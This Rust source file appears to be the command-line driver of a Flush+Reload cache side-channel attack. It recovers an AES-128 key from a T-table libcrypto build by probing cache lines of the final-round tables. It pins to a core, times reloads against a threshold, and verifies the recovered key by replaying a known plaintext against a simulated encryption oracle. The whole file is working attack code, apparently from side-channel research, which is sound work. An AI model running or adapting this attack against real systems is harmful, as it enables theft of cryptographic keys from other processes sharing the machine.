use std::path::PathBuf;
use std::process::ExitCode;

use clap::Parser;
use nix::sched::{sched_setaffinity, CpuSet};
use nix::unistd::Pid;
use rand::thread_rng;

use aes_flush_reload::flush_reload::NaiveFlushAndReload;
use aes_flush_reload::oracle::{EncryptionOracle, LibcryptoOracle};
use aes_flush_reload::target::TargetImage;
use aes_flush_reload::{recover_key, AttackError};

/// Recover an AES-128 key from a T-table libcrypto by Flush+Reload.
#[derive(Parser)]
struct Args {
    /// Library image whose T-tables are probed.
    #[arg(long, default_value = "/usr/local/lib/libcrypto.so")]
    target: PathBuf,

    /// Offsets of the four final-round tables inside the image (hex), one
    /// probed cache line each. They are a property of the build under
    /// attack; resolve them from that build's layout.
    #[arg(
        long,
        value_parser = parse_hex,
        value_delimiter = ',',
        num_args = 4,
        default_value = "0x1df000,0x1df400,0x1df800,0x1dfc00"
    )]
    te: Vec<usize>,

    /// Reload latency above which an access counts as a miss, in cycles.
    /// Calibrate per machine.
    #[arg(long, default_value_t = 160)]
    threshold: u64,

    /// Encryptions per probed table.
    #[arg(long, default_value_t = 40_000)]
    encryptions: u32,

    /// Key the oracle encrypts under, 32 hex digits. It only parameterizes
    /// the simulated victim; the recovery never reads it.
    #[arg(long, value_parser = parse_key, default_value = "00000000000000000000000000000000")]
    key: [u8; 16],

    /// Pin the measurement loop to this core.
    #[arg(long)]
    pin_core: Option<usize>,

    /// Time with raw counter reads instead of fenced ones.
    #[arg(long)]
    no_fence: bool,
}

fn parse_hex(s: &str) -> Result<usize, String> {
    let digits = s.trim_start_matches("0x");
    usize::from_str_radix(digits, 16).map_err(|e| e.to_string())
}

fn parse_key(s: &str) -> Result<[u8; 16], String> {
    if s.len() != 32 {
        return Err(String::from("expected 32 hex digits"));
    }
    let mut key = [0u8; 16];
    for (i, byte) in key.iter_mut().enumerate() {
        *byte = u8::from_str_radix(&s[2 * i..2 * i + 2], 16).map_err(|e| e.to_string())?;
    }
    Ok(key)
}

fn pin_to_core(core: usize) -> Result<(), AttackError> {
    let mut cpuset = CpuSet::new();
    cpuset.set(core)?;
    sched_setaffinity(Pid::from_raw(0), &cpuset)?;
    Ok(())
}

fn run(args: &Args) -> Result<(), AttackError> {
    if let Some(core) = args.pin_core {
        pin_to_core(core)?;
    }

    let image = TargetImage::open(&args.target)?;
    let te: [usize; 4] = args
        .te
        .clone()
        .try_into()
        .expect("clap enforces four offsets");
    let probes = image.probes(&te)?;

    let mut oracle = LibcryptoOracle::new(&args.key)?;
    let mut channel = NaiveFlushAndReload::from_threshold(args.threshold);
    if args.no_fence {
        channel = channel.without_fences();
    }

    println!(
        "profiling {} encryptions per table against {}",
        args.encryptions,
        args.target.display()
    );
    let recovered = unsafe {
        recover_key(
            &mut channel,
            &mut oracle,
            &probes,
            args.encryptions,
            &mut thread_rng(),
        )
    }?;
    println!("recovered key: {recovered}");

    // The pipeline never validates its output; check it here by replaying a
    // known plaintext under the recovered key.
    let probe_plaintext = [0u8; 16];
    let observed = oracle.encrypt(&probe_plaintext);
    let replayed = LibcryptoOracle::new(&recovered.bytes())?.encrypt(&probe_plaintext);
    if observed == replayed {
        println!("verification: ciphertexts match");
    } else {
        println!("verification: mismatch, measurements were too noisy");
    }
    Ok(())
}

fn main() -> ExitCode {
    let args = Args::parse();
    match run(&args) {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("error: {e}");
            ExitCode::FAILURE
        }
    }
}
